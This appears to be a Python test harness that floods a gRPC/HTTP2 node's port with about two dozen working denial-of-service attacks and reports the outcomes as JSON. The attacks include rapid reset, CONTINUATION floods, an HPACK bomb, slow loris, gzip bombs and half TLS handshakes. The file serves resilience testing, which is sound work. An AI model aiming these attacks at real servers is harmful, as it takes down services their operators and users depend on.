#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Attackers of a node's port: each does one bad thing as fast as it can, for so long, from an address of its own.

attacks.py NAME HOST:PORT SECONDS [SOURCE]

They run as processes of their own (begin()), so that who measures or tests meanwhile is not slowed down by them, and print what came of it
as JSON: what was sent, how often a connection was cut off or not even taken, and which answers came.
"""
import collections
import gzip
import json
import os
import pathlib
import resource
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

if __name__ == "__main__":
    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from harness.wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
                          WINDOW_UPDATE, Closed, Connection, frame, grpc_headers, message)

GREETING = PREFACE + frame(SETTINGS)
ALL_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
CANCEL = struct.pack(">I", 8)
PIECE = 16000


def begin(name, address, seconds, source="127.0.0.66"):
    return subprocess.Popen([sys.executable if sys.executable.startswith("/usr/bin") else "/usr/bin/python3", __file__, name, address,
                             str(seconds), source], stdout=subprocess.PIPE, text=True)


def outcome(process, seconds=60):
    out, _ = process.communicate(timeout=seconds)
    assert process.returncode == 0, f"the attacker itself has failed: {process.args}"
    return json.loads(out)


class Attacker:
    def __init__(self, address, seconds, source):
        host, port = address.rsplit(":", 1)
        self.address, self.target, self.source = address, (host, int(port)), source
        self.end = time.monotonic() + seconds
        self.count = collections.Counter()

    def goes_on(self):
        return time.monotonic() < self.end

    def connect(self, greeting=GREETING):
        """A socket that blocks for at most a second, or None."""
        try:
            s = socket.create_connection(self.target, timeout=1, source_address=(self.source, 0))
            s.sendall(greeting)
            self.count["connections"] += 1
            return s
        except OSError:
            self.count["not taken"] += 1
            time.sleep(0.001)
            return None

    def pour(self, make, greeting=GREETING, reads=True):
        """Sends what make() has, again and again, over one connection after the other."""
        while self.goes_on():
            s = self.connect(greeting)
            if not s:
                continue
            source = make()
            try:
                while self.goes_on():
                    data = next(source)
                    s.sendall(data)
                    self.count["bytes"] += len(data)
                    while reads and select.select([s], [], [], 0)[0]:
                        if not s.recv(1 << 20):
                            raise ConnectionResetError
            except StopIteration:
                pass
            except TimeoutError:
                self.count["stuck"] += 1
            except OSError:
                self.count["cut off"] += 1
            s.close()

    def hold(self, count, greeting, drip=None):
        """Keeps so many connections open at a time; `drip` goes over each of them once a second."""
        held, last = [], time.monotonic()
        while self.goes_on():
            while len(held) < count and self.goes_on():
                s = self.connect(greeting)
                if s:
                    s.setblocking(False)
                    held.append(s)
                if time.monotonic() - last > 1:
                    break
            now = time.monotonic()
            if now - last < 1:
                time.sleep(0.01)
                continue
            last, still = now, []
            for s in held:
                if self.is_open(s, drip):
                    still.append(s)
                else:
                    s.close()
                    self.count["cut off"] += 1
            held = still
            self.count["held"] = max(self.count["held"], len(held))

    @staticmethod
    def is_open(s, drip):
        try:
            if drip:
                s.send(drip)
            return bool(s.recv(65536))
        except BlockingIOError:
            return True
        except OSError:
            return False

    def call_again(self, make_call, connections=4):
        """Calls one after the other on some connections; counts the answers by status."""
        open_ones = [None] * connections
        while self.goes_on():
            for i, c in enumerate(open_ones):
                try:
                    if c is None:
                        c = open_ones[i] = Connection(self.address, seconds=2, source=self.source)
                        c.next = 1
                    response = make_call(c, c.next)
                    self.count[f"status {response.grpc_status}"] += 1
                    c.next += 2
                except (Closed, OSError):
                    self.count["cut off"] += 1
                    open_ones[i] = None
                    time.sleep(0.001)


def plain_block(method="GetStatus", **changes):
    """Headers as literals: no table, the same bytes on each stream."""
    def literal(name, value):
        def text(t):
            raw = t.encode()
            return (bytes([len(raw)]) if len(raw) < 127 else b"\x7f" + varint(len(raw) - 127)) + raw
        return b"\0" + text(name) + text(value)
    return b"".join(literal(*pair) for pair in grpc_headers(method, **changes))


def varint(value):
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def streams():
    return range(1, 2**31, 2)


# --- the attacks ---


def rapid_reset(a):
    block = plain_block()

    def make():
        numbers = iter(streams())
        while True:
            yield b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RST_STREAM, 0, n, CANCEL)
                           for n, _ in zip(numbers, range(300)))
    a.pour(make)


def header_flood(a):
    """Header lists just within the limit, on streams that stay open."""
    block = plain_block(x_large="y" * 15000)

    def make():
        for n in streams():
            yield frame(HEADERS, END_HEADERS, n, block)
    a.pour(make)


def large_headers(a):
    """Header lists beyond the limit."""
    block = plain_block(x_large="y" * 40000)
    pieces = [block[i:i + PIECE] for i in range(0, len(block), PIECE)]

    def make():
        for n in streams():
            yield frame(HEADERS, END_STREAM, n, pieces[0]) + b"".join(
                frame(CONTINUATION, END_HEADERS if p is pieces[-1] else 0, n, p) for p in pieces[1:])
    a.pour(make)


def continuation_flood(a):
    """A header block that never ends."""
    def make():
        yield frame(HEADERS, 0, 1, plain_block())
        header = b"\0\1x\1y"
        while True:
            yield frame(CONTINUATION, 0, 1, header * 3000)
    a.pour(make)


def empty_continuations(a):
    def make():
        yield frame(HEADERS, 0, 1, plain_block())
        while True:
            yield frame(CONTINUATION, 0, 1, b"") * 5000
    a.pour(make)


def hpack_bomb(a):
    """One large header in the table, then thousands of references of one byte to it."""
    large = b"\x40\x01x" + b"\x7f" + varint(3000 - 127) + b"y" * 3000

    def make():
        for n in streams():
            yield frame(HEADERS, 0, n, plain_block() + large) + frame(CONTINUATION, END_HEADERS, n, b"\xbe" * PIECE)
    a.pour(make)


def control_frames(kind, payload=b"", reads=True):
    def attack(a):
        def make():
            while True:
                yield frame(kind, 0, 0, payload) * 3000
        a.pour(make, reads=reads)
    return attack


def priority_flood(a):
    def make():
        while True:
            yield frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 1)) * 3000
    a.pour(make)


def window_updates(a):
    def make():
        while True:
            yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 3000
    a.pour(make)


def empty_data(a):
    def make():
        yield frame(HEADERS, END_HEADERS, 1, plain_block("ExecuteTask"))
        while True:
            yield frame(DATA, 0, 1) * 3000
    a.pour(make)


def garbage(a):
    noise = os.urandom(1 << 16)

    def make():
        while True:
            yield noise
    a.pour(make, greeting=b"")


def slow_loris(a):
    """Thousands of connections that have begun a frame, and send a byte of it now and then."""
    a.hold(5000, GREETING + frame(HEADERS, 0, 1, b"", length=10000), drip=b"\0")


def connections(a):
    """10,000 connections, all at once."""
    a.hold(10_000, b"")


def silent_streams(a):
    """As many calls as there may be on each connection, that are begun and go no further."""
    block = plain_block("ExecuteTask")

    def make():
        numbers = iter(streams())
        while True:
            yield b"".join(frame(HEADERS, END_HEADERS, n, block) for n, _ in zip(numbers, range(250)))
            if next(numbers) > 2100:
                break
        while True:
            time.sleep(0.1)
            yield b""
    several(a, make, 50)


def several(a, make, count):
    """The same on many connections in turn; each goes on where it was."""
    pairs = []
    while a.goes_on():
        while len(pairs) < count and a.goes_on():
            s = a.connect(GREETING + ALL_WINDOW)
            if not s:
                break
            s.setblocking(False)
            pairs.append((s, make(), [b""]))
        for pair in list(pairs):
            s, source, rest = pair
            try:
                rest[0] = rest[0] or next(source)
                rest[0] = rest[0][s.send(rest[0]):]
                if s.recv(65536) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except (OSError, StopIteration):
                a.count["cut off"] += 1
                s.close()
                pairs.remove(pair)
        time.sleep(0.001)


def announced_lengths(a):
    """Uploads that announce 100 MB each and send three bytes."""
    block = plain_block("ExecuteTask")

    def make():
        numbers = iter(streams())
        body = message(b"abc", length=100 * 1024 * 1024)
        for n, _ in zip(numbers, range(900)):
            yield frame(HEADERS, END_HEADERS, n, block) + frame(DATA, 0, n, body)
        while True:
            time.sleep(0.05)
            yield b""
    several(a, make, 20)


def beyond_all_lengths(a):
    """4 GB are announced: refused at once, each time."""
    block = plain_block("ExecuteTask")

    def make():
        for n in streams():
            yield frame(HEADERS, END_HEADERS, n, block) + frame(DATA, 0, n, message(b"abc", length=0xffffffff))
    a.pour(make)


def gzip_bombs(a):
    """200 kB that unpack to 200 MB."""
    body = message(gzip.compress(bytes(200 * 1024 * 1024), 9), compressed=1)
    block = plain_block("ExecuteTask", grpc_encoding="gzip")

    def make():
        for n in streams():
            yield frame(HEADERS, END_HEADERS, n, block)
            for i in range(0, len(body), PIECE):
                yield frame(DATA, END_STREAM if i + PIECE >= len(body) else 0, n, body[i:i + PIECE])
    several(a, make, 8)


def unread_answers(a):
    """Answers that nobody reads: lists and status, again and again."""
    block = plain_block("GetStatus")

    def make():
        for n in streams():
            yield frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, message(b""))
    a.pour(make, reads=False, greeting=GREETING + ALL_WINDOW)


def watchers(a):
    """As many watchers of the node's health as there may be, and more."""
    block = plain_block("/grpc.health.v1.Health/Watch")

    def make():
        for n, _ in zip(streams(), range(990)):
            yield frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, message(b""))
        while True:
            time.sleep(0.05)
            yield b""
    several(a, make, 30)


def bad_tokens(a):
    def call(c, stream):
        return c.call("GetStatus", stream=stream, authorization=f"Bearer hmw_{stream:040d}")
    a.call_again(call)


def bad_messages(a):
    def call(c, stream):
        return c.call("ExecuteTask", b"\x0a\xff\xff\xff\xff\x0f", stream=stream)
    a.call_again(call)


def half_handshakes(a):
    """Connections that have sent a whole greeting of TLS and say no more: the node has signed for each."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out).do_handshake()
    except ssl.SSLWantReadError:
        pass
    a.hold(5000, out.read())


def begun_handshakes(a):
    """The first bytes of one, then a byte now and then."""
    a.hold(5000, b"\x16\x03\x01\x02\x00", drip=b"\x01")


ATTACKS = {
    "none": lambda a: time.sleep(a.end - time.monotonic()),
    "rapid reset": rapid_reset,
    "headers within the limit": header_flood,
    "headers beyond the limit": large_headers,
    "endless CONTINUATION": continuation_flood,
    "empty CONTINUATION": empty_continuations,
    "HPACK bomb": hpack_bomb,
    "PING": control_frames(PING, b"12345678"),
    "PING, unread": control_frames(PING, b"12345678", reads=False),
    "SETTINGS": control_frames(SETTINGS),
    "SETTINGS, unread": control_frames(SETTINGS, reads=False),
    "SETTINGS acknowledgements": lambda a: a.pour(lambda: iter(lambda: frame(SETTINGS, ACK) * 3000, None)),
    "PRIORITY": priority_flood,
    "WINDOW_UPDATE": window_updates,
    "empty DATA": empty_data,
    "garbage": garbage,
    "slow loris": slow_loris,
    "10,000 connections": connections,
    "silent streams": silent_streams,
    "announced lengths": announced_lengths,
    "lengths beyond all": beyond_all_lengths,
    "gzip bombs": gzip_bombs,
    "answers unread": unread_answers,
    "watchers": watchers,
    "bad tokens": bad_tokens,
    "bad messages": bad_messages,
}
# On a node with TLS.
TLS_ATTACKS = {"half TLS handshakes": half_handshakes, "begun TLS handshakes": begun_handshakes}


def main():
    name, address, seconds = sys.argv[1:4]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 20_000)), hard))
    attacker = Attacker(address, float(seconds), sys.argv[4] if len(sys.argv) > 4 else "127.0.0.66")
    {**ATTACKS, **TLS_ATTACKS}[name](attacker)
    print(json.dumps(attacker.count))


if __name__ == "__main__":
    main()
